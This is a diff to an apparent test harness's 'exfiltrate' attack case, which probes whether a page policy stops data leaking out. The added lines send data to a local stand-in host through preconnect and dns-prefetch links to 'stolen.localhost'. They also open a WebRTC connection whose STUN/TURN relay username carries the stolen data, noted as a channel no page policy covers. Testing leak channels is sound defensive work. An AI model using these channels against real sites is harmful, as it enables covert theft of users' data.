@@ -449,9 +449,26 @@ attack('exfiltrate', async row => {
     add('script', { src: `${to}/script.js` });
     add('link', { rel: 'stylesheet', href: `${to}/style.css` });
     add('link', { rel: 'prefetch', href: `${to}/prefetch` });
+    add('link', { rel: 'preconnect', href: to });
+    add('link', { rel: 'dns-prefetch', href: to.replace('127.0.0.1', 'stolen.localhost') });
     add('iframe', { src: `${to}/frame` });
     add('object', { data: `${to}/object` });
     add('video', { src: `${to}/video` });
+    // No policy of a page speaks of these: a call to a relay, whose user name is what was stolen.
+    const { port } = new URL(to);
+    const relays = ['127.0.0.1', 'stolen.localhost'].flatMap(host => [
+      `stun:${host}:${port}`,
+      `turn:${host}:${port}?transport=udp`,
+      `turn:${host}:${port}?transport=tcp`,
+    ]);
+    const urls = { username: 'stolen', credential: 'x' };
+    const call = new RTCPeerConnection({
+      iceServers: relays.map(each => ({ ...urls, urls: each })),
+    });
+    call.createDataChannel('stolen');
+    await call.setLocalDescription(await call.createOffer());
+    await new Promise(resolve => setTimeout(resolve, 1_500));
+    call.close();
     const form = Object.assign(document.createElement('form'), { action: to, method: 'post' });
     document.body.append(form);
     form.submit();
